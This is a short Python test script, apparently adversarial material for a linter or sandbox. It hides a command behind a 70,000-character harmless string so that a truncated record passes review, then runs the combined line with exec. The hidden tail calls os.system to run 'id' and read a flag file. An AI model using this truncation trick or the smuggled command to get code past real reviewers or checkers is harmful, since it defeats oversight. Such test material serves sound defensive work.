# Text whose dangerous tail sits after a very long harmless head (a big string
# literal), hoping the record keeps only the head and still lints it clean.
import io
import sys

head = "pad = '" + ("\u00e9" * 70000) + "'"
tail = "; __import__('os').system('id; cat /flag')"
sys.stdin = io.StringIO(head + tail + "\n")
exec(input())
